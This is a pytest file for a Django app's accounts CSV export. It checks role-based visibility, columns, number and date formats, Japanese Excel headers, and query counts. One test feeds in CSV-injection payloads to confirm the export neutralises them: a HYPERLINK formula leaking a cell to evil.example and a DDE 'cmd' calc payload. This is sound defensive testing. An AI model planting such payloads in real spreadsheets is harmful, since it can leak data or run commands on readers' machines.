"""The list as a file: what it shows, no more, and nothing that a spreadsheet would run."""

import csv
from io import StringIO
from urllib.parse import unquote

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test import Client
from django.test.utils import CaptureQueriesContext
from tests.web.conftest import AsMember
from tests.web.site import SEEN, Site
from tests.web.test_accounts import many, names, shown

from banso.desk.models import Account, Measured, Member, Run, Standing
from banso.web.accounts import export


def sent(client: Client, query: str = "") -> bytes:
    response = client.get(f"/accounts.csv{query}")
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response)


def table(client: Client, query: str = "") -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(sent(client, query).decode("utf-8-sig"))))


def keys(client: Client, query: str = "") -> list[str]:
    return [row["Key"] for row in table(client, query)]


@pytest.mark.parametrize("handle", SEEN)
def test_a_file_has_the_accounts_that_its_reader_sees(as_member: AsMember, handle: str) -> None:
    assert sorted(keys(as_member(handle))) == sorted(SEEN[handle])


@pytest.mark.parametrize(
    "query",
    ["", "?sort=-arr", "?colour=at_risk", "?journey=adoption&stage=habit", "?q=A4", "?overdue=1"],
)
def test_a_file_has_the_rows_of_the_list_in_their_order(as_member: AsMember, query: str) -> None:
    client = as_member("admin")

    assert [row["Account"] for row in table(client, query)] == names(
        shown(client, f"/accounts/{query}")
    )


def test_all_pages_are_in_one_file(as_member: AsMember, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "CHUNK", 7)
    many(60)

    assert sorted(keys(as_member("admin"))) == sorted(Account.objects.values_list("key", flat=True))


def test_the_columns_are_those_of_the_list(as_member: AsMember) -> None:
    client = as_member("csm")
    client.post("/accounts/columns/", {"columns": ["arr", "metric.utilisation"]})

    kept, asked = table(client), table(client, "?columns=owner,segments,contract")

    assert list(kept[0]) == ["Account", "Key", "ARR (JPY)", "utilisation (%)"]
    assert list(asked[0]) == ["Account", "Key", "Owner", "Contract end", "Segments"]


def test_numbers_are_plain_and_days_are_iso(as_member: AsMember) -> None:
    standing = Standing.objects.get(account__key="A1", lead=True)
    run = Run.objects.first()
    assert run is not None
    place = run.metrics.index("weekly_users")
    measured = Measured.objects.get(account__key="A1").numbers[place]
    columns = (
        "?q=A1&columns=stage,health,confidence,trend,alerts,arr,seats,contract,metric.weekly_users"
    )

    (row,) = table(as_member("admin"), columns)

    assert standing.score is not None
    assert standing.confidence is not None
    assert float(row["Score"]) == round(standing.score, 2)
    assert float(row["Confidence (%)"]) == round(100 * standing.confidence, 1)
    assert (row["Journey"], row["Stage"]) == (standing.journey, standing.stage)
    assert row["Days in stage"] == str(standing.days_in_stage)
    assert (row["ARR (JPY)"], row["Seats"]) == ("100000", "5")
    assert row["Contract end"] == "2027-03-31"
    assert float(row["weekly_users"]) == measured


def test_what_is_unmeasured_says_so(as_member: AsMember) -> None:
    Standing.objects.filter(account__key="A1").update(
        score=None, trend=None, arr=None, ends_on=None, colour="unmeasured"
    )

    (row,) = table(
        as_member("csm"), "?q=A1&columns=health,trend,arr,contract,metric.answer,metric.seats"
    )

    assert (row["Health"], row["Score"], row["ARR (JPY)"]) == ("Unmeasured",) * 3
    assert row["Contract end"] == "Unmeasured"
    assert row["Score against 28 days before"] == "no comparison"
    assert row["answer"].startswith("Unmeasured: ")
    assert row["seats"] == "5"


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"見積")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "＝1+1",
        "\u3000=1+1",
        'x","=1+1',
        "x;=1+1",
    ],
)
def test_a_hostile_name_is_never_a_formula(as_member: AsMember, name: str) -> None:
    Account.objects.filter(key="A1").update(name=name)
    Member.objects.filter(handle="csm").update(name=name)
    text = sent(as_member("csm"), "?columns=owner,stage&sort=name").decode("utf-8-sig")

    for row in csv.reader(StringIO(text)):
        assert [x for x in row if x.lstrip("\u3000 ")[:1] in tuple("=+-@＝＋－＠")] == []
    # Where Excel separates by semicolons, every cell of text is still one: it stands in quotes.
    cells = [cell for line in text.splitlines() for cell in line.split(",") if ";" in cell]
    assert all(cell.startswith('"') and cell.endswith('"') for cell in cells)


def test_a_negative_number_stays_a_number(as_member: AsMember) -> None:
    Standing.objects.filter(account__key="A1").update(trend=-12.5)

    text = sent(as_member("csm"), "?q=A1&columns=trend").decode("utf-8-sig")

    assert text.splitlines()[1] == '"A1 商事","A1",-12.5'


def test_excel_in_japan_reads_it(as_member: AsMember) -> None:
    Member.objects.filter(handle="csm").update(language="ja")
    client = as_member("csm")
    raw = sent(client, "?columns=owner,health")

    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.decode("utf-8-sig").splitlines()[0] == '"顧客","ID","担当CSM","ヘルス","スコア"'
    assert {row["ヘルス"] for row in table(client)} <= {"健全", "注意", "危険", "未計測"}


def test_the_file_is_named_by_organisation_and_day(as_member: AsMember) -> None:
    response = as_member("csm").get("/accounts.csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="Test-accounts-2026-05-30.csv"'
    Member.objects.filter(handle="csm").update(language="ja")
    named = unquote(as_member("csm").get("/accounts.csv")["Content-Disposition"])
    assert named.endswith("Test-顧客一覧-2026-05-30.csv")


def test_amounts_are_not_in_the_file_of_who_may_not_see_them(
    as_member: AsMember, vendor_site: Site
) -> None:
    found = table(as_member("viewer"), "?columns=owner,arr,seats&sort=arr")

    assert list(found[0]) == ["Account", "Key", "Owner", "Seats"]
    assert len(found) == len(vendor_site.accounts)


def test_an_address_that_means_nothing_gives_no_file(as_member: AsMember) -> None:
    response = as_member("admin").get("/accounts.csv?stage=gone")

    assert response.status_code == 400
    assert "stage=gone" in response.content.decode()


def test_before_the_first_run_there_is_no_file(as_member: AsMember) -> None:
    Run.objects.all().delete()

    assert as_member("admin").get("/accounts.csv").status_code == 404


def test_as_many_queries_for_sixty_rows_as_for_three(as_member: AsMember) -> None:
    def asked() -> int:
        with CaptureQueriesContext(connection) as found:
            sent(as_member("admin"), "?columns=segments,metric.weekly_users")
        return len(found)

    Standing.objects.exclude(account__key__in=("A1", "A2", "A3")).delete()
    asked()
    few = asked()
    many(60)

    assert asked() == few
